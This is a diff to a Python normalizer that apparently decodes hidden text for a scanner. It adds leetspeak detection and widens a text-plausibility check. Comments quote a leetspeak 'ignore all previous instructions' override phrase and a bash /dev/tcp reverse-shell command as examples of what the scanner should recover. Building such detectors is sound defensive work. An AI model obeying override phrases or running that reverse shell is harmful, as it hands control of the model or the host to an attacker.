@@ -112,6 +112,13 @@ _HEX = re.compile(r"(?<![0-9A-Fa-f])(?:[0-9A-Fa-f]{2}){8,}(?![0-9A-Fa-f])")
 _HEX_ESCAPED = re.compile(r"(?:\\x[0-9A-Fa-f]{2}){8,}")
 _URL_TOKEN = re.compile(r"(?<!\S)\S*%[0-9A-Fa-f]{2}\S*")
 _PERCENT = re.compile(r"%([0-9A-Fa-f]{2})")
+#: Leetspeak: digits for letters ("1gn0r3 4ll pr3v10u5 1n5truct10n5").
+_LEET_TABLE = str.maketrans({"0": "o", "1": "i", "3": "e", "4": "a", "5": "s", "7": "t", "8": "b"})
+_LEET_ANY_WORD = re.compile(r"[A-Za-z0-9]+")
+_LEET_WORD = re.compile(r"(?<![\\\w])(?=[A-Za-z0-9]*[A-Za-z])(?=[A-Za-z0-9]*[0134578])[A-Za-z0-9]{3,}(?!\w)")
+#: A line is decoded as leetspeak when it has this many such words, making up this share of its words.
+_LEET_MIN_WORDS = 3
+_LEET_MIN_SHARE = 0.4
 
 
 # --- the public function ------------------------------------------------------------
@@ -157,6 +164,7 @@ def normalize(
     layers += _invisible_layers(carrier, in_place, budget, max_decode_depth)
     if max_decode_depth >= 1:
         layers += _blob_layers(carrier, 0, 1, max_decode_depth, budget)
+        layers += _leet_layers(carrier, budget)
 
     # 4. Rebuild the body with invisible carriers replaced by what they say.
     body = _splice(carrier, in_place) if in_place else carrier
@@ -192,7 +200,9 @@ def normalize(
             break
         extra.append(piece)
         room -= len(piece)
-    for kind, step_kind in (("base64", "base64"), ("hex", "hex"), ("url", "url_encoding")):
+    for kind, step_kind in (
+        ("base64", "base64"), ("hex", "hex"), ("url", "url_encoding"), ("leetspeak", "leetspeak"),
+    ):  # fmt: skip
         found = [layer for layer in layers if layer.kind == kind]
         if found:
             deepest = max(layer.depth for layer in found)
@@ -454,6 +464,40 @@ def _blob_layers(
     return layers
 
 
+def _leet_layers(text: str, budget: _Budget) -> list[HiddenLayer]:
+    """Lines written in leetspeak, spelled out: one layer per line where at least
+    :data:`_LEET_MIN_WORDS` words, and :data:`_LEET_MIN_SHARE` of the line's words, mix letters
+    with digits or symbols that stand for letters. Identifiers such as "sha256" or "utf8" are
+    rarely that dense in a line."""
+    layers: list[HiddenLayer] = []
+    if not any(c in text for c in "0134578"):
+        return layers
+    start = 0
+    for line in text.splitlines(keepends=True):
+        end = start + len(line)
+        if budget.layers <= 0:
+            break
+        leet = [m for m in _LEET_WORD.finditer(line) if _is_leet(m.group())]
+        if len(leet) >= _LEET_MIN_WORDS and len(leet) >= _LEET_MIN_SHARE * len(_LEET_ANY_WORD.findall(line)):
+            first, last = leet[0].start(), leet[-1].end()
+            decoded = line[first:last].translate(_LEET_TABLE)
+            if decoded not in budget.seen and budget.take(decoded):
+                budget.seen.add(decoded)
+                layers.append(HiddenLayer("leetspeak", start + first, start + last, decoded))
+        start = end
+    return layers
+
+
+def _is_leet(word: str) -> bool:
+    """A word that spells letters with digits: it reads as letters once mapped, a digit stands
+    before a letter (names such as "libnss3" or "verify2" only end in one), and it is not
+    hexadecimal (UUIDs, hashes, "x00")."""
+    if not word.translate(_LEET_TABLE).isalpha() or word.rstrip("0123456789").isalpha():
+        return False
+    letters = [c for c in word if c.isalpha()]
+    return len(letters) >= 2 and any(c not in "abcdefABCDEFxX" for c in letters)
+
+
 def _plausible_text(data: bytes, *, min_letters: int = 3, letter_ratio: float = 0.3) -> str | None:
     """The UTF-8 text ``data`` holds, if it looks like text someone wrote."""
     try:
@@ -466,8 +510,10 @@ def _plausible_text(data: bytes, *, min_letters: int = 3, letter_ratio: float = 
     printable = sum(map(str.isprintable, decoded)) + sum(decoded.count(c) for c in "\n\t\r")
     if printable < 0.95 * size:
         return None
+    # Letters and digits together: a command full of addresses and ports ("bash -i >&
+    # /dev/tcp/10.0.0.1/4444 0>&1") or a card number in a sentence is text someone wrote.
     letters = sum(map(str.isalpha, decoded))
-    if letters < min_letters or letters < letter_ratio * size:
+    if letters < min_letters or letters + sum(map(str.isdigit, decoded)) < letter_ratio * size:
         return None
     return decoded
 
